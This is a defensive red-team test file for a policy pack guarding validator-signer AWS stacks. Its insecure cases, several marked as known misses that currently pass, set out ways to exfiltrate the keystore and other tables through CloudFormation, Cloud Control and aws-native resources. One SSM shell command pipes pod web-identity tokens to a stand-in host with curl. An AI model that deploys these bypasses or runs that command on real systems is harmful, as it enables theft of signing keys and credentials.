// Red-team round 15 (final, fresh eyes) on the Containment Chamber signer stacks (dev, prod, pod-identity), AWS side:
// share keys, the three tables, the runtime role via IRSA or Pod Identity. Shapes the earlier rounds did not try on
// these stacks: the same copies and node runners the pack already judges as aws resources (AWS Backup copy actions,
// State Manager associations, EventBridge Pipes, Redshift zero-ETL, OpenSearch Ingestion), written instead through a
// CloudFormation template, a Cloud Control resource or the aws-native provider; on the secure side, monitoring and
// capacity resources a careful team adds through those same providers, and documented alternative spellings of the
// signer's grants. Every aws-provider twin of the skipped insecure cases (aws:backup/plan + selection, aws:ssm/association,
// aws:pipes/pipe, aws:lambda/eventSourceMapping, aws:redshift/integration, aws:osis/pipeline, aws:appsync/dataSource,
// aws:apigateway/integration) is refused on these stacks today; only the spelling differs.
//
// Insecure variants the whole pack must refuse (the refusing rule and its path message); secure variants it must
// accept. A case the pack still gets wrong is `skip` with a comment "MISS: <why>, <doc>". REDTEAM_ALL=1 runs the
// skipped cases too; REDTEAM_SHOW=1 prints each refusal.
import {
    assertClean,
    assertRefused,
    doc,
    find,
    mandatoryOf,
    prop,
    resourceLike,
    Resources,
    runWholePack,
    setProp,
    stackResources,
} from "./support";

const PRIMARY = "111111111111";
const FOREIGN = "999999999999";
const ROLE = "aws:iam/role:Role";
const KEY = "aws:kms/key:Key";
const TABLE = "aws:dynamodb/table:Table";
const CFN_STACK = "aws:cloudformation/stack:Stack";
const CLOUD_CONTROL = "aws:cloudcontrol/resource:Resource";
const FOREIGN_VAULT = `arn:aws:backup:eu-west-1:${FOREIGN}:backup-vault:loot`;
const BACKUP_ROLE = `arn:aws:iam::${PRIMARY}:role/service-role/AWSBackupDefaultServiceRole`;
const PI_CLUSTER = `arn:aws:eks:eu-west-1:${PRIMARY}:cluster/prod-validators`;

const tableArn = (stack: string, t: string) => `arn:aws:dynamodb:eu-west-1:${PRIMARY}:table/custody-${stack}-${t}`;
const signerRole = (r: Resources) => find(r, ROLE, "signer-role");
const signerArn = (r: Resources) => prop(signerRole(r), "arn") as string;
const share = (r: Resources, i: number) => find(r, KEY, `signer-shares-share-${i}`);
const table = (r: Resources, t: string) => find(r, TABLE, `signer-tables-${t}`);

/** A resource through the provider of the signer's role (the primary account, its region). */
const beside = (r: Resources, type: string, name: string, inputs: Record<string, unknown>) =>
    r.push(resourceLike(signerRole(r), type, name, inputs));

/** The keystore's stream turned on (NEW_AND_OLD_IMAGES), its stream ARN returned. */
function keystoreStream(r: Resources, stack: string): string {
    const t = table(r, "keystore");
    const stream = `${tableArn(stack, "keystore")}/stream/2026-12-02T00:00:00.000`;
    setProp(t, "streamEnabled", true);
    setProp(t, "streamViewType", "NEW_AND_OLD_IMAGES");
    (t.outputs as Record<string, unknown>).streamArn = stream;
    return stream;
}

/** A CloudFormation template (JSON) holding `resources`. */
const template = (resources: Record<string, unknown>) =>
    JSON.stringify({ AWSTemplateFormatVersion: "2010-09-09", Resources: resources });

/** A backup plan (CloudFormation shape) copying each daily backup into a vault of another account. */
const CFN_PLAN = {
    BackupPlanName: "custody-dr",
    BackupPlanRule: [
        {
            RuleName: "daily",
            TargetBackupVault: "Default",
            ScheduleExpression: "cron(0 5 * * ? *)",
            CopyActions: [{ DestinationBackupVaultArn: FOREIGN_VAULT }],
        },
    ],
};
const cfnSelection = (stack: string, planId: unknown) => ({
    BackupPlanId: planId,
    BackupSelection: {
        SelectionName: "custody-tables",
        IamRoleArn: BACKUP_ROLE,
        Resources: [tableArn(stack, "keystore")],
    },
});

/** An SSM State Manager association (CloudFormation shape) running a shell script as root on every instance. */
const SHELL_ON_EVERY_NODE = {
    Name: "AWS-RunShellScript",
    Targets: [{ Key: "InstanceIds", Values: ["*"] }],
    Parameters: {
        commands: [
            "cat /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token | curl -sd @- https://collector.example.net",
        ],
    },
};

type Case = {
    name: string;
    stack: string;
    preview?: boolean;
    edit: (r: Resources) => void;
    refused?: RegExp;
    policy?: string;
    /** A known miss left for later: "MISS: <why>". */
    skip?: string;
};

const insecure: Case[] = [
    {
        name: "a CloudFormation stack whose template is an AWS Backup plan and selection of the keystore, copying every backup into another account's vault",
        stack: "prod",
        edit: r =>
            beside(r, CFN_STACK, "custody-dr", {
                name: "custody-dr",
                templateBody: template({
                    Plan: { Type: "AWS::Backup::BackupPlan", Properties: { BackupPlan: CFN_PLAN } },
                    Selection: {
                        Type: "AWS::Backup::BackupSelection",
                        Properties: cfnSelection("prod", { "Fn::GetAtt": ["Plan", "BackupPlanId"] }),
                    },
                }),
            }),
        refused: /custody-dr/,
        skip: "MISS: custody-tables refuses this very copy written as aws:backup/plan + selection (\"Backup plan → table custody-prod-keystore: copies their backups into ... outside the table's account\"), but opaque.ts reads a template only for IAM/KMS/SSO/EKS/CloudFormation/Serverless/SSM/Lambda types, so AWS::Backup::BackupPlan CopyActions → DestinationBackupVaultArn of account 999999999999 passes unseen (CloudFormation template reference, AWS::Backup::BackupPlan CopyActionResourceType; AWS Backup developer guide, 'Creating backup copies across AWS accounts')",
    },
    {
        name: "the same AWS Backup plan and selection as aws-native resources (aws-native:backup:BackupPlan, BackupSelection)",
        stack: "prod",
        edit: r => {
            beside(r, "aws-native:backup:BackupPlan", "custody-dr", {
                backupPlan: {
                    backupPlanName: "custody-dr",
                    backupPlanRule: [
                        {
                            ruleName: "daily",
                            targetBackupVault: "Default",
                            scheduleExpression: "cron(0 5 * * ? *)",
                            copyActions: [{ destinationBackupVaultArn: FOREIGN_VAULT }],
                        },
                    ],
                },
                backupPlanId: "plan-custody-dr",
            });
            beside(r, "aws-native:backup:BackupSelection", "custody-tables", {
                backupPlanId: "plan-custody-dr",
                backupSelection: {
                    selectionName: "custody-tables",
                    iamRoleArn: BACKUP_ROLE,
                    resources: [tableArn("prod", "keystore")],
                },
            });
        },
        refused: /custody-dr|custody-tables/,
        skip: "MISS: the same cross-account copy of the keystore; opaque.ts's SENSITIVE_NATIVE_MODULES is only iam/kms/sso/eks/cloudformation and the copy readers know only aws:backup/*, so aws-native:backup:BackupPlan/BackupSelection pass (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API'; aws-native.backup.BackupSelection is 'Resource Type definition for AWS::Backup::BackupSelection')",
    },
    {
        name: "an aws provider Backup plan copying into another account's vault, its selection of the keystore written as a Cloud Control resource (AWS::Backup::BackupSelection)",
        stack: "prod",
        edit: r => {
            beside(r, "aws:backup/plan:Plan", "custody-dr", {
                name: "custody-dr",
                id: "plan-custody-dr",
                rules: [
                    {
                        ruleName: "daily",
                        targetVaultName: "Default",
                        schedule: "cron(0 5 * * ? *)",
                        copyActions: [{ destinationVaultArn: FOREIGN_VAULT }],
                    },
                ],
            });
            beside(r, CLOUD_CONTROL, "custody-tables", {
                typeName: "AWS::Backup::BackupSelection",
                desiredState: JSON.stringify(cfnSelection("prod", "plan-custody-dr")),
            });
        },
        refused: /custody-dr|custody-tables/,
        skip: "MISS: the copy's plan is an aws provider Plan the pack reads, but without an aws:backup/selection it selects nothing the pack sees; the Cloud Control AWS::Backup::BackupSelection that puts the keystore in it is not in SENSITIVE_CFN_TYPES (IAM|KMS|SSO|EKS|CloudFormation|Serverless), so the keystore's backups reach account 999999999999 (Cloud Control API user guide, 'Resource types that support Cloud Control API'; CloudFormation AWS::Backup::BackupSelection Resources)",
    },
    {
        name: "a Cloud Control resource AWS::SSM::Association running AWS-RunShellScript as root on every instance (the nodes hold the signer pod's projected web identity token)",
        stack: "prod",
        edit: r =>
            beside(r, CLOUD_CONTROL, "node-inventory", {
                typeName: "AWS::SSM::Association",
                desiredState: JSON.stringify(SHELL_ON_EVERY_NODE),
            }),
        refused: /node-inventory/,
        skip: "MISS: the pack refuses aws:ssm/association:Association ('runs a Systems Manager document on instances (State Manager): the script runs as root with the instances' roles') and a template's AWS::SSM::*, but Cloud Control's SENSITIVE_CFN_TYPES lacks SSM, so a State Manager association of AWS-RunShellScript on every managed node (InstanceIds = *) passes: root on the node running the signer pod reads its projected web identity token and becomes the signer (CloudFormation AWS::SSM::Association Target: 'You can target all instances in an AWS account by specifying the InstanceIds key with a value of *')",
    },
    {
        name: "the same State Manager association as an aws-native resource (aws-native:ssm:Association)",
        stack: "pod-identity",
        edit: r =>
            beside(r, "aws-native:ssm:Association", "node-inventory", {
                name: "AWS-RunShellScript",
                targets: [{ key: "InstanceIds", values: ["*"] }],
                parameters: SHELL_ON_EVERY_NODE.Parameters,
            }),
        refused: /node-inventory/,
        skip: "MISS: as the Cloud Control case: SENSITIVE_NATIVE_MODULES lacks ssm, so aws-native:ssm:Association (AWS::SSM::Association) runs a root shell on every managed node of the account, including the one running the Pod Identity signer pod, whose agent-served credentials it can fetch (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API'; SSM API CreateAssociation Targets 'InstanceIds key with a value of *')",
    },
    {
        name: "a CloudFormation stack whose template is an EventBridge Pipe from the keystore's stream to an SQS queue of another account (an existing pipes role of the account)",
        stack: "prod",
        edit: r => {
            const stream = keystoreStream(r, "prod");
            beside(r, CFN_STACK, "keystore-feed", {
                name: "keystore-feed",
                templateBody: template({
                    Feed: {
                        Type: "AWS::Pipes::Pipe",
                        Properties: {
                            Name: "keystore-feed",
                            RoleArn: `arn:aws:iam::${PRIMARY}:role/service-role/pipes-existing`,
                            Source: stream,
                            SourceParameters: { DynamoDBStreamParameters: { StartingPosition: "TRIM_HORIZON" } },
                            Target: `arn:aws:sqs:eu-west-1:${FOREIGN}:loot`,
                        },
                    },
                }),
            });
        },
        refused: /keystore-feed/,
        skip: "MISS: custody-tables refuses an aws:pipes/pipe:Pipe from the keystore's stream ('reads every change from its stream and forwards it to the pipe's target'), but a template's AWS::Pipes::Pipe is not among the types opaque.ts looks for, so every keystore change goes to an SQS queue of account 999999999999 (CloudFormation template reference, AWS::Pipes::Pipe Source/Target; EventBridge Pipes user guide, 'DynamoDB stream as a source')",
    },
    {
        name: "the same Pipe as an aws-native resource (aws-native:pipes:Pipe)",
        stack: "dev",
        edit: r => {
            const stream = keystoreStream(r, "dev");
            beside(r, "aws-native:pipes:Pipe", "keystore-feed", {
                name: "keystore-feed",
                roleArn: `arn:aws:iam::${PRIMARY}:role/service-role/pipes-existing`,
                source: stream,
                sourceParameters: { dynamoDbStreamParameters: { startingPosition: "TRIM_HORIZON" } },
                target: `arn:aws:sqs:eu-west-1:${FOREIGN}:loot`,
            });
        },
        refused: /keystore-feed/,
        skip: "MISS: as the template case, through aws-native:pipes:Pipe (pipes is not a sensitive aws-native module and the stream readers know only aws:pipes/pipe) (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API')",
    },
    {
        name: "a Cloud Control resource AWS::Lambda::EventSourceMapping from the keystore's stream into an existing function of the account",
        stack: "prod",
        edit: r => {
            const stream = keystoreStream(r, "prod");
            beside(r, CLOUD_CONTROL, "keystore-esm", {
                typeName: "AWS::Lambda::EventSourceMapping",
                desiredState: JSON.stringify({
                    EventSourceArn: stream,
                    FunctionName: `arn:aws:lambda:eu-west-1:${PRIMARY}:function:forwarder`,
                    StartingPosition: "TRIM_HORIZON",
                }),
            });
        },
        refused: /keystore-esm/,
        skip: "MISS: custody-tables refuses aws:lambda/eventSourceMapping on a custody table's stream ('feeds every change ... to a function whose code and destinations the pack cannot judge'), and a template's AWS::Lambda::* is opaque, but Cloud Control's SENSITIVE_CFN_TYPES lacks Lambda, so this mapping passes (CloudFormation AWS::Lambda::EventSourceMapping EventSourceArn; Cloud Control API user guide, supported resource types)",
    },
    {
        name: "a CloudFormation stack whose template is a Redshift zero-ETL integration of anti-slashing into another account's namespace",
        stack: "prod",
        edit: r =>
            beside(r, CFN_STACK, "slashing-etl", {
                name: "slashing-etl",
                templateBody: template({
                    Etl: {
                        Type: "AWS::Redshift::Integration",
                        Properties: {
                            IntegrationName: "slashing-etl",
                            SourceArn: tableArn("prod", "anti-slashing"),
                            TargetArn: `arn:aws:redshift-serverless:eu-west-1:${FOREIGN}:namespace/0f0e0d0c-0b0a-0908-0706-050403020100`,
                        },
                    },
                }),
            }),
        refused: /slashing-etl/,
        skip: "MISS: judge.ts reads the zero-ETL integration as aws:redshift/integration, aws-native:redshift:Integration and Cloud Control, and refuses one into another account's namespace, but not inside a CloudFormation template (AWS::Redshift::Integration is not among opaque.ts's template types), so every anti-slashing item replicates into account 999999999999 (CloudFormation AWS::Redshift::Integration SourceArn/TargetArn; Redshift management guide, 'Zero-ETL integrations with Amazon DynamoDB', cross-account targets). AWS also needs the table's resource policy for redshift.amazonaws.com, as for the aws provider case the pack already refuses without one",
    },
    {
        name: "an OpenSearch Ingestion pipeline as an aws-native resource (aws-native:osis:Pipeline) whose DynamoDB source exports and streams the keystore, run by an existing role",
        stack: "prod",
        edit: r => {
            keystoreStream(r, "prod");
            beside(r, "aws-native:osis:Pipeline", "keystore-search", {
                pipelineName: "keystore-search",
                minUnits: 1,
                maxUnits: 2,
                pipelineConfigurationBody: [
                    'version: "2"',
                    "ddb:",
                    "  source:",
                    "    dynamodb:",
                    "      tables:",
                    `        - table_arn: "${tableArn("prod", "keystore")}"`,
                    "          stream:",
                    '            start_position: "LATEST"',
                    "          export:",
                    `            s3_bucket: "osis-export-${FOREIGN}"`,
                    `      aws:`,
                    `        sts_role_arn: "arn:aws:iam::${PRIMARY}:role/osis-existing"`,
                    '        region: "eu-west-1"',
                    "  sink:",
                    "    - opensearch:",
                    '        hosts: ["https://search-loot.eu-west-1.es.amazonaws.com"]',
                    '        index: "keystore"',
                ].join("\n"),
            });
        },
        refused: /keystore-search/,
        skip: "MISS: custody-tables refuses aws:osis/aws:opensearchingest pipelines whose DynamoDB source is a custody table ('exports it and reads its stream with the pipeline's role, indexing every item'), but aws-native:osis:Pipeline (AWS::OSIS::Pipeline, the same pipelineConfigurationBody) is not read (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API'; OpenSearch Service developer guide, 'Using an OpenSearch Ingestion pipeline with Amazon DynamoDB')",
    },
    {
        name: "an AppSync GraphQL API with an API key and a DynamoDB data source on the keystore, as aws-native resources (aws-native:appsync:GraphQlApi, ApiKey, DataSource), run by an existing role",
        stack: "prod",
        edit: r => {
            beside(r, "aws-native:appsync:GraphQlApi", "keystore-api", {
                name: "keystore-api",
                authenticationType: "API_KEY",
                apiId: "kapi0123456789",
            });
            beside(r, "aws-native:appsync:ApiKey", "keystore-api-key", { apiId: "kapi0123456789" });
            beside(r, "aws-native:appsync:DataSource", "keystore-source", {
                apiId: "kapi0123456789",
                name: "keystore",
                type: "AMAZON_DYNAMODB",
                serviceRoleArn: `arn:aws:iam::${PRIMARY}:role/service-role/appsync-existing`,
                dynamoDbConfig: { tableName: "custody-prod-keystore", awsRegion: "eu-west-1" },
            });
        },
        refused: /keystore-source|keystore-api/,
        skip: "MISS: assets.ts reads aws:appsync/dataSource (an earlier case refuses an API-key AppSync API on anti-slashing run by an outside role), but not aws-native:appsync:DataSource (AWS::AppSync::DataSource DynamoDBConfig.TableName), so anyone holding the API key reads the keystore through the data source's role (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API'; CloudFormation AWS::AppSync::DataSource DynamoDBConfig)",
    },
    {
        name: "an API Gateway method without authorization whose AWS integration Scans the keystore, as an aws-native resource (aws-native:apigateway:Method), run by an existing role",
        stack: "prod",
        edit: r =>
            beside(r, "aws-native:apigateway:Method", "keystore-scan", {
                restApiId: "rapi012345",
                resourceId: "res012",
                httpMethod: "POST",
                authorizationType: "NONE",
                integration: {
                    type: "AWS",
                    integrationHttpMethod: "POST",
                    uri: "arn:aws:apigateway:eu-west-1:dynamodb:action/Scan",
                    credentials: `arn:aws:iam::${PRIMARY}:role/service-role/apigw-existing`,
                    requestTemplates: { "application/json": JSON.stringify({ TableName: "custody-prod-keystore" }) },
                    passthroughBehavior: "NEVER",
                },
            }),
        refused: /keystore-scan/,
        skip: "MISS: assets.ts reads aws:apigateway/integration and a RestApi's OpenAPI body (an unauthenticated Scan of a custody table is refused there), but not aws-native:apigateway:Method, whose Integration (type AWS, uri arn:aws:apigateway:eu-west-1:dynamodb:action/Scan, requestTemplates TableName custody-prod-keystore) is the same thing: anyone on the internet Scans the keystore with the integration's role (Pulumi registry, aws-native: 'manage any AWS resource that's supported by the AWS Cloud Control API'; CloudFormation AWS::ApiGateway::Method Integration Uri/Credentials)",
    },
    {
        name: "share 2's key policy: the signer's statement as \"*\" pinned by ArnLike aws:PrincipalArn role/custody-prod-signer* (a role custody-prod-signer-debug of the account matches too)",
        stack: "prod",
        edit: r => {
            const k = share(r, 2);
            const d = JSON.parse(prop(k, "policy") as string) as { Statement: Record<string, unknown>[] };
            const s = d.Statement.find(x => x.Sid === "AllowSignerRole")!;
            s.Principal = { AWS: "*" };
            s.Condition = { ArnLike: { "aws:PrincipalArn": `${signerArn(r)}*` } };
            setProp(k, "policy", JSON.stringify(d));
        },
        refused: /AllowSignerRole|share-2|d21e825f/,
    },
    {
        name: "a Cloud Control AWS::EKS::PodIdentityAssociation binding default/default to the signer role",
        stack: "pod-identity",
        edit: r =>
            beside(r, CLOUD_CONTROL, "default-signer", {
                typeName: "AWS::EKS::PodIdentityAssociation",
                desiredState: JSON.stringify({
                    ClusterName: "prod-validators",
                    Namespace: "default",
                    ServiceAccount: "default",
                    RoleArn: signerArn(r),
                }),
            }),
        refused: /default-signer/,
    },
];

const secure: Case[] = [
    {
        name: "read-throttle and system-error alarms on the three tables as aws-native CloudWatch alarms (aws-native:cloudwatch:Alarm)",
        stack: "prod",
        edit: r => {
            for (const t of ["keystore", "anti-slashing", "signer-state"])
                beside(r, "aws-native:cloudwatch:Alarm", `${t}-throttles`, {
                    alarmName: `custody-prod-${t}-throttles`,
                    namespace: "AWS/DynamoDB",
                    metricName: "ReadThrottleEvents",
                    dimensions: [{ name: "TableName", value: `custody-prod-${t}` }],
                    statistic: "Sum",
                    period: 60,
                    evaluationPeriods: 5,
                    threshold: 1,
                    comparisonOperator: "GreaterThanOrEqualToThreshold",
                    alarmActions: [`arn:aws:sns:eu-west-1:${PRIMARY}:custody-oncall`],
                });
        },
    },
    {
        name: "a Cloud Control AWS::CloudWatch::Dashboard of the shares' KMS and the tables' DynamoDB metrics",
        stack: "prod",
        edit: r =>
            beside(r, CLOUD_CONTROL, "custody-dashboard", {
                typeName: "AWS::CloudWatch::Dashboard",
                desiredState: JSON.stringify({
                    DashboardName: "custody-prod",
                    DashboardBody: JSON.stringify({
                        widgets: [
                            {
                                type: "metric",
                                properties: {
                                    metrics: [
                                        [
                                            "AWS/DynamoDB",
                                            "ConsumedReadCapacityUnits",
                                            "TableName",
                                            "custody-prod-keystore",
                                        ],
                                    ],
                                    region: "eu-west-1",
                                },
                            },
                        ],
                    }),
                }),
            }),
    },
    {
        name: "a CloudFormation stack of EventBridge rules alerting on the shares' key-policy changes and deletion schedules (AWS::Events::Rule to the on-call SNS topic)",
        stack: "prod",
        edit: r =>
            beside(r, CFN_STACK, "custody-kms-alerts", {
                name: "custody-kms-alerts",
                templateBody: template({
                    KeyChanges: {
                        Type: "AWS::Events::Rule",
                        Properties: {
                            EventPattern: {
                                source: ["aws.kms"],
                                "detail-type": ["AWS API Call via CloudTrail"],
                                detail: {
                                    eventName: ["PutKeyPolicy", "ScheduleKeyDeletion", "DisableKey", "CreateGrant"],
                                },
                            },
                            Targets: [{ Id: "oncall", Arn: `arn:aws:sns:eu-west-1:${PRIMARY}:custody-oncall` }],
                        },
                    },
                }),
            }),
    },
    {
        name: "share 2's key policy: the signer named as its account's root pinned by ArnEquals aws:PrincipalArn to exactly the signer role (the cross-account form of the same grant)",
        stack: "prod",
        skip: "MISS (secure refused): the same key policy statement with Principal \"*\" and the same ArnEquals aws:PrincipalArn pin is accepted, but with Principal the signer account's root (strictly narrower: only identities of 111111111111, and only the signer among them) kms-key-policy-safe says it 'grants the whole account' and share-custody that the ring role differs; KMS developer guide, 'Allowing users in other accounts to use a KMS key' (the external account's root as principal, delegating to its IAM policies) and IAM user guide, aws:PrincipalArn ('compare the ARN of the principal that made the request')",
        edit: r => {
            const k = share(r, 2);
            const d = JSON.parse(prop(k, "policy") as string) as { Statement: Record<string, unknown>[] };
            const s = d.Statement.find(x => x.Sid === "AllowSignerRole")!;
            s.Principal = { AWS: `arn:aws:iam::${PRIMARY}:root` };
            s.Condition = { ArnEquals: { "aws:PrincipalArn": signerArn(r) } };
            setProp(k, "policy", JSON.stringify(d));
        },
    },
    {
        name: "the anti-slashing table on provisioned capacity with Application Auto Scaling (target and target-tracking policies through the service-linked role)",
        stack: "prod",
        edit: r => {
            const t = table(r, "anti-slashing");
            setProp(t, "billingMode", "PROVISIONED");
            setProp(t, "readCapacity", 5);
            setProp(t, "writeCapacity", 5);
            for (const dim of ["Read", "Write"]) {
                beside(r, "aws:appautoscaling/target:Target", `anti-slashing-${dim.toLowerCase()}`, {
                    serviceNamespace: "dynamodb",
                    resourceId: "table/custody-prod-anti-slashing",
                    scalableDimension: `dynamodb:table:${dim}CapacityUnits`,
                    minCapacity: 5,
                    maxCapacity: 100,
                    roleArn: `arn:aws:iam::${PRIMARY}:role/aws-service-role/dynamodb.application-autoscaling.amazonaws.com/AWSServiceRoleForApplicationAutoScaling_DynamoDBTable`,
                });
                beside(r, "aws:appautoscaling/policy:Policy", `anti-slashing-${dim.toLowerCase()}-tracking`, {
                    name: `anti-slashing-${dim.toLowerCase()}`,
                    policyType: "TargetTrackingScaling",
                    serviceNamespace: "dynamodb",
                    resourceId: "table/custody-prod-anti-slashing",
                    scalableDimension: `dynamodb:table:${dim}CapacityUnits`,
                    targetTrackingScalingPolicyConfiguration: {
                        targetValue: 70,
                        predefinedMetricSpecification: {
                            predefinedMetricType: `DynamoDB${dim}CapacityUtilization`,
                        },
                    },
                });
            }
        },
    },
    {
        name: "a data-perimeter Deny in each share's key policy: Decrypt and Encrypt denied to every principal but the signer (ArnNotEquals aws:PrincipalArn)",
        stack: "prod",
        edit: r => {
            for (const i of [1, 2, 3]) {
                const k = share(r, i);
                const d = JSON.parse(prop(k, "policy") as string) as { Statement: Record<string, unknown>[] };
                d.Statement.push({
                    Sid: "DenyAllButSigner",
                    Effect: "Deny",
                    Principal: "*",
                    Action: ["kms:Decrypt", "kms:Encrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*"],
                    Resource: "*",
                    Condition: { ArnNotEquals: { "aws:PrincipalArn": signerArn(r) } },
                });
                setProp(k, "policy", JSON.stringify(d));
            }
        },
    },
    {
        name: "the signer's trust pins its cluster both by the eks-cluster-arn tag and by ArnEquals aws:SourceArn (the same cluster twice)",
        stack: "pod-identity",
        edit: r =>
            setProp(
                signerRole(r),
                "assumeRolePolicy",
                doc({
                    Effect: "Allow",
                    Principal: { Service: "pods.eks.amazonaws.com" },
                    Action: ["sts:AssumeRole", "sts:TagSession"],
                    Condition: {
                        StringEquals: {
                            "aws:RequestTag/eks-cluster-arn": PI_CLUSTER,
                            "aws:RequestTag/kubernetes-namespace": "validators",
                            "aws:RequestTag/kubernetes-service-account": "containment-chamber",
                            "aws:SourceAccount": PRIMARY,
                        },
                        ArnEquals: { "aws:SourceArn": PI_CLUSTER },
                    },
                }),
            ),
    },
    {
        name: "an AWS Backup plan of the keystore (the account's default backup role) copying each backup into a vault of the same account in eu-central-1 (regional disaster recovery)",
        stack: "prod",
        edit: r => {
            beside(r, "aws:backup/plan:Plan", "custody-dr", {
                name: "custody-dr",
                id: "plan-custody-dr",
                rules: [
                    {
                        ruleName: "daily",
                        targetVaultName: "Default",
                        schedule: "cron(0 5 * * ? *)",
                        copyActions: [
                            { destinationVaultArn: `arn:aws:backup:eu-central-1:${PRIMARY}:backup-vault:custody-dr` },
                        ],
                    },
                ],
            });
            beside(r, "aws:backup/selection:Selection", "custody-tables", {
                name: "custody-tables",
                planId: "plan-custody-dr",
                iamRoleArn: BACKUP_ROLE,
                resources: [tableArn("prod", "keystore")],
            });
        },
    },
    {
        name: "an aws-native Backup vault with a vault lock in the signer's account, holding nothing (no plan, no selection)",
        stack: "prod",
        edit: r =>
            beside(r, "aws-native:backup:BackupVault", "custody-vault", {
                backupVaultName: "custody-prod",
                lockConfiguration: { minRetentionDays: 35, maxRetentionDays: 365 },
            }),
    },
];

const skipMisses = process.env.REDTEAM_ALL !== "1";
const label = (c: Case) => `${c.stack}${c.preview ? " (first preview)" : ""}: ${c.name}`;

describe("allowlist: red-team round 15 on the signer stacks (AWS side)", () => {
    for (const c of insecure) {
        (c.skip && skipMisses ? it.skip : it)(`refuses: ${label(c)}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            const ds = await runWholePack(c.stack, r);
            if (process.env.REDTEAM_SHOW === "1")
                for (const d of mandatoryOf(ds)) console.log(`      ${d.policyName}: ${d.message.slice(0, 600)}`);
            assertRefused(ds, c.refused ?? /^$/, c.policy);
        });
    }
    for (const c of secure) {
        (c.skip && skipMisses ? it.skip : it)(`accepts: ${label(c)}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            const ds = await runWholePack(c.stack, r);
            if (process.env.REDTEAM_SHOW === "1")
                for (const d of mandatoryOf(ds)) console.log(`      ${d.policyName}: ${d.message.slice(0, 600)}`);
            assertClean(ds);
        });
    }
});
